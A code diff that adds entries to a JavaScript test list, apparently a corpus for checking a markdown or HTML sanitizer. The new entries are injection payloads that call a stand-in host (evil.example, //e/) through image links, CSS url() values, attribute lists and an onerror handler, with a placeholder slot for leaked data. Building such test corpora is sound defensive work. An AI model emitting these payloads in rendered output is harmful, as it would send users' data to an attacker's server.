@@ -172,6 +172,11 @@ const FORMS = [
     '![x](//evil.example/"a)~"~b)',
     '![x](//evil.example/~"a)~"~b)',
     "![x](//evil.example/(a~)~)",
+    "![x](//evil.example/?q=`) ~ `)",
+    "![x](//evil.example/?q=[a) ~](b))",
+    "![x](//evil.example/?q= ``` ~)",
+    "![x](//evil.example/?q=\n```\n~\n```\n)",
+    "![x](//evil.example/?q=\n```\na\n```\n~)",
   ],
   ...[
     "![x][1]~\n\n[1]:~//evil.example/~~",
@@ -182,10 +187,16 @@ const FORMS = [
   ...[
     '<math>~\n<style><p>x{}*{background:url("//evil.example/~~")}',
     "<svg><style>~*{a:url(//e/~~)}",
+    '<svg><desc>a\n\nb</desc></svg>\n\n</desc>\n\n<style><g x="</style>"></g>x{}*{a:url("\\68ttps://e/ ~")}',
   ],
   ...["<img~alt='>'~src=//evil.example/~~>", "`<img src='/`~'>~", "<p~style=\"a:url('//e/~')\">~"],
   ...["*[x]: //evil.example/~\n![x]~", "[![x](/y~)~](//evil.example/~)~", "![x](/y =10x~)~"],
   ...['{: style="background:url(//e/~)"}~', '![x](/y){: src="//e/~"}~', "<//evil.example/~>~"],
+  ...['![x](/y){: a=\'"https://a~\' src="//e/ ~"}', "~![x](/y){: a='https://a/\\' src='//e/ ~'}"],
+  ...[
+    "a~\n{: style=\"background:url('\\68ttps://e/? ~')\"}",
+    "![x](/y){: onerror=\"f('/'+'/e/ ~')\"}",
+  ],
 ];
 const GAPS = [
   ...[...VALUES.keys()].slice(0, 3),
